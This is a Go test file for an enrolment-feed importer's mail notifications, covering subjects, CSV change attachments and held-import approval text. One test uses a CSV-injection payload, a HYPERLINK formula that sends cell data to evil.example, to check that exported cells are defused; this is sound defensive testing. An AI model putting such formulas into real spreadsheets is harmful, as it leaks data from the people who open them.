package mailer

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/imsfeed/imsfeed/change"
	"github.com/imsfeed/imsfeed/record"
	"github.com/imsfeed/imsfeed/runs"
	"github.com/imsfeed/imsfeed/safety"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

func TestRenderGolden(t *testing.T) {
	t.Parallel()
	for name, msg := range kinds() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r, err := Render(msg)
			if err != nil {
				t.Fatal(err)
			}
			got := "Subject: " + r.Subject + "\n\n" + r.Text
			checkWidth(t, name, r.Text)
			golden := filepath.Join("testdata", name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test ./mailer -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("text of the %s mail differs from %s (go test ./mailer -update to accept):\n%s", name, golden, got)
			}
		})
	}
}

func TestSubjects(t *testing.T) {
	t.Parallel()
	k := kinds()
	want := map[string]string{
		"completed":  "[imsfeed] northside: import completed (+3 ~2 -1 persons, +1 ~0 -1 groups, +4 ~0 -2 memberships (1 kept as manual))",
		"held":       "[imsfeed] northside: import HELD — approval needed (persons deletes 25.0% > 10%)",
		"failed":     "[imsfeed] northside: import FAILED (line 3:9: XML syntax error: element <person> closed by </persn>)", // the position once
		"skipped":    "[imsfeed] northside: import skipped (unchanged file: same SHA-256 as run 16)",
		"approved":   "[imsfeed] northside: held import approved and applied (+0 ~0 -15 persons)",
		"rejected":   "[imsfeed] northside: held import rejected (run 17)",
		"planned":    "[imsfeed] northside: dry run — would apply (+3 ~2 -1 persons, +1 ~0 -1 groups, +4 ~0 -2 memberships (1 kept as manual))",
		"superseded": "[imsfeed] northside: held import superseded (run 17)",
	}
	seen := map[string]string{}
	for name, w := range want {
		r, err := Render(k[name])
		if err != nil {
			t.Fatal(err)
		}
		if r.Subject != w {
			t.Errorf("%s subject:\n got %s\nwant %s", name, r.Subject, w)
		}
		if other, dup := seen[r.Subject]; dup {
			t.Errorf("%s and %s mails have the same subject", name, other)
		}
		seen[r.Subject] = name
	}
}

func TestHeldSubjectNamesEveryKindOfLimit(t *testing.T) {
	t.Parallel()
	run := baseRun(runs.Held)
	run.Verdict.Passed = false
	run.Verdict.Tripped = []safety.Trip{
		{Type: "memberships", Op: safety.Deletes, Count: 180, Base: 5000, Percent: 3.6, MaxPercent: ptr(10.0), MaxCount: ptr(150)},
		{Type: "persons", Op: safety.Inserts, Count: 600, Base: 0},
		{Type: "groups", Op: safety.Updates, Count: 30, Base: 40, Percent: 75, MaxPercent: ptr(50.0)},
		{Type: "persons", Op: safety.Deletes, Count: 172, Base: 1000, Percent: 17.2, MaxPercent: ptr(10.0), Window: "7d"},
	}
	r, err := Render(Message{Run: run, Tenant: northside})
	if err != nil {
		t.Fatal(err)
	}
	if want := "(memberships deletes 180 > 150 and 3 more limits)"; !strings.HasSuffix(r.Subject, want) {
		t.Errorf("subject %q, want it to end %q", r.Subject, want)
	}
	for _, want := range []string{
		"memberships deletes: 180 of 5000 (3.6%); limit max 10%, max 150",
		"persons inserts: 600 of 0 (initial load)",
		"groups updates: 30 of 40 (75.0%); limit max 50%",
		"persons deletes over the last 7d: 172 of 1000 (17.2%); limit max 10%", // the rolling window
		"imsfeed approve 17 --by NAME --reason TEXT",                           // the default when the lead gives none
		"imsfeed reject 17 --by NAME --reason TEXT",
	} {
		if !strings.Contains(flat(r.Text), want) || !strings.Contains(r.HTML, want) {
			t.Errorf("text or HTML lacks %q", want)
		}
	}
	// A trip of the rolling window alone says so in the subject.
	run.Verdict.Tripped = run.Verdict.Tripped[3:]
	if r, err = Render(Message{Run: run, Tenant: northside}); err != nil || !strings.HasSuffix(r.Subject, "(persons deletes 17.2% > 10% over 7d)") {
		t.Errorf("window subject %q, %v", r.Subject, err)
	}
}

// The CSV rows are the plan's changes: per type and op they add up to the run's counts.
func TestCSVMatchesPlan(t *testing.T) {
	t.Parallel()
	msg := kinds()["completed"]
	r, err := Render(msg)
	if err != nil {
		t.Fatal(err)
	}
	if r.CSVName != "changes-northside-run17.csv" {
		t.Errorf("CSV name %q", r.CSVName)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.CSV)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	checkCSV(t, rows, msg.Run.Counts)
}

func checkCSV(t *testing.T, rows [][]string, want change.Counts) {
	t.Helper()
	if len(rows) == 0 || strings.Join(rows[0], ",") != "\ufefftype,op,key,name,group,group_name,member,member_name,role,role_name,changes,preferred_first,preferred_last" {
		t.Fatalf("CSV header (after a UTF-8 BOM): %q", rows)
	}
	var got change.Counts
	for _, row := range rows[1:] {
		var tc *change.TypeCounts
		switch row[0] {
		case "person":
			tc = &got.Persons
		case "group":
			tc = &got.Groups
		case "membership":
			tc = &got.Memberships
			if row[4] == "" || row[6] == "" || row[8] == "" || row[9] == "" {
				t.Errorf("membership row without group, member or role: %q", row)
			}
		case "relation":
			tc = &got.Relations
			if row[2] == "" || row[6] == "" || row[8] == "" {
				t.Errorf("relation row without person, related person or type: %q", row)
			}
		default:
			t.Fatalf("CSV row of unknown type: %q", row)
		}
		switch row[1] {
		case "insert":
			tc.Inserted++
		case "update":
			tc.Updated++
		case "delete", "trashed (restorable)":
			tc.Deleted++
		case "restore":
			tc.Restored++
		case "archive", "kept as manual":
			tc.Archived++
		default:
			t.Errorf("CSV row with unknown op: %q", row)
		}
	}
	for _, c := range []*change.Counts{&got, &want} {
		for _, tc := range []*change.TypeCounts{&c.Persons, &c.Groups, &c.Memberships, &c.Relations} {
			tc.Before, tc.After = 0, 0
		}
	}
	if got != want {
		t.Errorf("CSV rows add up to %+v, run says %+v", got, want)
	}
}

func TestNoCSVWithoutChanges(t *testing.T) {
	t.Parallel()
	k := kinds()
	for _, msg := range []Message{k["failed"], {Run: k["skipped"].Run, Plan: &change.Plan{}, Tenant: northside}} {
		r, err := Render(msg)
		if err != nil {
			t.Fatal(err)
		}
		if r.CSV != nil || r.CSVName != "" || strings.Contains(r.Text, ".csv") {
			t.Errorf("%s mail has a CSV (%q) though nothing changed", msg.Run.Status, r.CSVName)
		}
	}
}

// A name that starts like a spreadsheet formula must not run when staff open the CSV.
func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	p := smallPlan()
	p.Persons[0].Person.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	b, err := renderCSV(p)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][3]; !strings.HasPrefix(got, "'=") {
		t.Errorf("formula cell written as %q", got)
	}
}

func TestLongListsAreCut(t *testing.T) {
	t.Parallel()
	msg := kinds()["held"] // 23 warnings
	r, err := Render(msg)
	if err != nil {
		t.Fatal(err)
	}
	n := strings.Count(r.Text, "membership member unknown")
	if n != maxListed {
		t.Errorf("text lists %d warnings, want the first %d", n, maxListed)
	}
	for _, want := range []string{"Records skipped, their stored counterparts kept (23):", "... and 3 more (imsfeed show 17 lists them all)"} {
		if !strings.Contains(flat(r.Text), want) {
			t.Errorf("text lacks %q", want)
		}
	}
	if !strings.Contains(r.HTML, "and 3 more") {
		t.Error("HTML does not say how many warnings were left out")
	}
}

func TestRenderNeedsRun(t *testing.T) {
	t.Parallel()
	if _, err := Render(Message{}); err == nil {
		t.Error("Render of a message without a run succeeded")
	}
}

func ExampleRender() {
	fin := t0.Add(4 * 1e9)
	r, _ := Render(Message{
		Run:    &runs.Run{ID: 3, Tenant: "north", Status: runs.Skipped, Reason: "unchanged file", StartedAt: t0, FinishedAt: &fin},
		Tenant: Tenant{ID: "north"},
	})
	fmt.Println(r.Subject)
	// Output: [imsfeed] north: import skipped (unchanged file)
}

func TestHoldRemovalsSaysWhatWasApplied(t *testing.T) {
	t.Parallel()
	msg := kinds()["held"]
	msg.Run.Verdict.OnTrip = safety.HoldRemovals
	r, err := Render(msg)
	if err != nil {
		t.Fatal(err)
	}
	want := "inserts and updates were applied; deletes and archivals wait for approval"
	if !strings.Contains(flat(r.Text), want) || !strings.Contains(r.HTML, want) {
		t.Errorf("hold-removals mail does not say %q:\n%s", want, r.Text)
	}
}

func BenchmarkRenderLargePlan(b *testing.B) {
	p := &change.Plan{}
	for i := 0; i < 50000; i++ {
		p.Persons = append(p.Persons, change.Person{Op: change.Insert, Person: record.Person{Key: fmt.Sprintf("P%06d", i), Name: fmt.Sprintf("Given%d Family%d", i, i)}})
		p.Memberships = append(p.Memberships, change.Membership{Op: change.Insert, Membership: record.Membership{MembershipKey: record.MembershipKey{Group: "G1", Member: fmt.Sprintf("P%06d", i), Role: "01"}}})
	}
	p.Counts = change.Tally(p, [4]int{})
	run := baseRun(runs.Completed)
	run.Counts = p.Counts
	msg := Message{Run: run, Plan: p, Tenant: northside}
	m := New(nil, b.TempDir(), nil)
	b.ResetTimer()
	for b.Loop() {
		res, err := m.Send(context.Background(), msg)
		if err != nil {
			b.Fatal(err)
		}
		fi, _ := os.Stat(res.Path)
		b.ReportMetric(float64(fi.Size())/1e6, "MB/mail")
	}
}

// flat collapses runs of white space, so a test can look for a sentence the text part wrapped.
func flat(s string) string { return strings.Join(strings.Fields(s), " ") }

// checkWidth fails for a text line wider than mail readers show without wrapping it.
func checkWidth(t *testing.T, name, text string) {
	t.Helper()
	for i, line := range strings.Split(text, "\n") {
		if n := utf8.RuneCountInString(line); n > 78 {
			t.Errorf("%s mail: text line %d is %d columns wide (> 78): %q", name, i+1, n, line)
		}
	}
}

// The CSV says which template a new course starts from, and where an archived course went.
func TestCSVShowsTemplateAndArchiveNode(t *testing.T) {
	t.Parallel()
	p := &change.Plan{Groups: []change.Group{
		{Op: change.Insert, Course: true, Group: record.Group{Key: "MATH5", Name: "Mathematics 5", Template: "tmpl-standard"}},
		{Op: change.Archive, Course: true, Group: record.Group{Key: "ART8", Name: "Art 8", Parents: []string{"imsfeed-archive"}}},
	}}
	b, err := renderCSV(p)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][10]; got != "template: tmpl-standard" {
		t.Errorf("new course's changes %q", got)
	}
	if got := rows[2][10]; got != "moved under: imsfeed-archive" {
		t.Errorf("archived course's changes %q", got)
	}
}

// Without http.public_url there is no console to link; the removals section needs removals.
func TestHeldMailWithoutPublicURLHasNoConsoleLink(t *testing.T) {
	msg := kinds()["held"]
	msg.ConsoleURL, msg.Removals = "", nil
	r, err := Render(msg)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{r.Text, r.HTML} {
		if strings.Contains(part, "console") || strings.Contains(part, "Where the removals") {
			t.Errorf("held mail without a public URL or removals:\n%s", part)
		}
	}
}

// TestMailShowsRelations: a run that changes relations between persons has a relations row in
// the table, its numbers in the subject, and a CSV row per change naming both persons; a run
// without any has no such row.
func TestMailShowsRelations(t *testing.T) {
	t.Parallel()
	p := &change.Plan{
		Persons: []change.Person{{Op: change.Insert, Person: record.Person{Key: "P1", Name: "Ada Pupil"}}, {Op: change.Insert, Person: record.Person{Key: "G1", Name: "Grace Guardian"}}},
		Relations: []change.Relation{
			{Op: change.Insert, Relation: record.Relation{RelationKey: record.RelationKey{Person: "P1", Related: "G1", Type: "guardian"}}},
			{Op: change.Delete, Relation: record.Relation{RelationKey: record.RelationKey{Person: "P9", Related: "G1", Type: "guardian"}}, Cascade: true},
		},
	}
	p.Counts = change.Tally(p, [4]int{10, 0, 0, 5})
	run := baseRun(runs.Completed)
	run.Counts = p.Counts
	r, err := Render(Message{Run: run, Plan: p, Tenant: northside})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(r.Subject, "+1 ~0 -1 relations") {
		t.Errorf("subject %q does not count the relations", r.Subject)
	}
	if !strings.Contains(flat(r.Text), "relations 5 1 0 1 0 0 5") || !strings.Contains(r.HTML, "relations") {
		t.Errorf("text mail has no relations row:\n%s", r.Text)
	}
	checkWidth(t, "relations", r.Text)
	rows, err := csv.NewReader(bytes.NewReader(r.CSV)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	checkCSV(t, rows, run.Counts)
	if got := strings.Join(rows[3], ","); got != "relation,insert,P1,Ada Pupil,,,G1,Grace Guardian,guardian,,,," {
		t.Errorf("relation CSV row %q", got)
	}
	if got := rows[4][10]; got != "a person of it went to the trash can" {
		t.Errorf("cascaded relation's CSV changes %q", got)
	}

	none, err := Render(kinds()["completed"])
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(none.Text, "relations") {
		t.Errorf("a run without relations shows them:\n%s", none.Text)
	}
}

// TestCSVOfAPlanWrittenWhileReadingCountsWhatItDoesNotList: an initial load whose persons and
// memberships were written while the file was read lists only the first of them in its plan
// (change.Plan.Early counts the rest, per type): the mail still says how many changes there
// are, of both, and that the CSV shows only the first ones.
func TestCSVOfAPlanWrittenWhileReadingCountsWhatItDoesNotList(t *testing.T) {
	t.Parallel()
	msg := kinds()["completed"]
	p := *msg.Plan
	listed := len(p.Persons) + len(p.Groups) + len(p.Memberships) + len(p.Relations)
	p.Early[record.Persons] = maxCSVRows / 2
	p.Early[record.Memberships] = maxCSVRows
	msg.Plan = &p
	r, err := Render(msg)
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("lists the %d changes (the first %d;", listed+maxCSVRows/2+maxCSVRows, maxCSVRows)
	if !strings.Contains(strings.Join(strings.Fields(r.Text), " "), want) {
		t.Errorf("the text does not say %q:\n%s", want, r.Text)
	}
}

// A school-year rollover's mails, whatever became of it, name the rollover and no file: it
// read none (its run's File.Name names the years it moves between).
func TestRolloverMailsNameTheRolloverAndNoFile(t *testing.T) {
	t.Parallel()
	rollover := func(status runs.Status) *runs.Run {
		r := baseRun(status)
		r.Mode, r.File = "rollover", runs.File{Name: "rollover 2026-27 → 2027-28"}
		r.Counts.Groups = change.TypeCounts{Before: 14, Deleted: 1, Archived: 5, After: 8}
		return r
	}
	approved, rejected := rollover(runs.Completed), rollover(runs.Rejected)
	approved.Approval = &runs.Decision{By: "alice", At: t0.Add(time.Hour), Reason: "agreed"}
	rejected.Rejection = &runs.Decision{By: "alice", At: t0.Add(time.Hour), Reason: "not yet"}
	for _, c := range []struct {
		run               *runs.Run
		subject, headline string
	}{
		{rollover(runs.Held), "school-year rollover 2026-27 → 2027-28 HELD — approval needed (5 courses to archive)",
			"School-year rollover HELD: every rollover waits for an operator. Nothing was applied."},
		{approved, "school-year rollover 2026-27 → 2027-28 approved and applied (",
			"The held school-year rollover 2026-27 → 2027-28 was approved and its change set applied."},
		{rejected, "held school-year rollover 2026-27 → 2027-28 rejected (run 17)",
			"The held school-year rollover 2026-27 → 2027-28 was rejected: nothing from its change set was applied."},
		{rollover(runs.Superseded), "held school-year rollover 2026-27 → 2027-28 superseded (run 17)",
			"The held school-year rollover 2026-27 → 2027-28 was superseded by a newer run: nothing from its change set was applied."},
	} {
		r, err := Render(Message{Run: c.run, Tenant: northside})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(r.Subject, "[imsfeed] northside: "+c.subject) {
			t.Errorf("%s rollover's subject %q, want it to start %q", c.run.Status, r.Subject, c.subject)
		}
		if text := strings.Join(strings.Fields(r.Text), " "); !strings.HasPrefix(text, c.headline) || strings.Contains(text, "File ") || strings.Contains(r.HTML, ">File<") {
			t.Errorf("%s rollover's mail does not start %q or has a file row:\n%s", c.run.Status, c.headline, r.Text)
		}
	}
}
